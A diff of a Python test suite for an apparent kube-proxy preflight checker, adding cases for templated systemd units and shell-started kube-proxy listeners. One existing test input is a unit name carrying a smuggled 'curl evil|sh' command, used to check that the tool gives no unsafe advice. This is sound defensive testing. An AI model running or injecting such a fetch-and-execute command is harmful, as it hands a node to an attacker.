@@ -24,6 +24,10 @@ class TestOtherKubeProxy:
                 "if its pod belongs to the DaemonSet kube-proxy, run kubectl -n kube-system delete daemonset kube-proxy",
             ),
             (UNIT, "systemctl disable --now kube-proxy-old.service"),
+            (
+                "/system.slice/system-kube\\x2dproxy.slice/kube-proxy@a.service",
+                "systemctl disable --now kube-proxy@a.service",
+            ),
             ("/system.slice/ssh.service", "stop it where it was started, not with all of ssh.service"),
             ("/system.slice/a;curl evil|sh #.service", "stop it"),
             ("/user.slice/session-1.scope", "stop it"),
@@ -34,6 +38,7 @@ class TestOtherKubeProxy:
     ) -> None:
         start_process(node, 42, "kube-proxy", group)
         node.write("main-pid-of-kube-proxy-old.service", "42")
+        node.write("main-pid-of-kube-proxy@a.service", "42")
         node.write("main-pid-of-ssh.service", "7")
         message = f"no other kube-proxy may run on this node, found process 42 ({group}): {way_out}"
         assert node.problems()[0] == message
@@ -109,6 +114,12 @@ class TestPorts:
         done = node.run("preflight")
         assert (done.returncode == 0) is free
         assert (f"port {healthz} must be free for kube-proxy, is in use by " in done.stderr) is not free
+
+    def test_listeners_of_a_kube_proxy_that_its_unit_starts_by_a_shell_are_no_conflict(self, node: FakeNode) -> None:
+        """The restart ends the shell and kube-proxy. The main process is the shell."""
+        start_process(node, 42, "kube-proxy", "/system.slice/kube-proxy.service")
+        node.write("listeners", 'LISTEN 0 4096 *:10256 *:* users:(("kube-proxy",pid=42,fd=9))\n')
+        assert node.preflight_messages() == READY
 
     def test_listener_must_have_an_address_of_the_machine(self, node: FakeNode) -> None:
         node.write("addresses", "127.0.0.1/8 192.168.99.102/24 fe80::1/64 fd00:99::102/64")
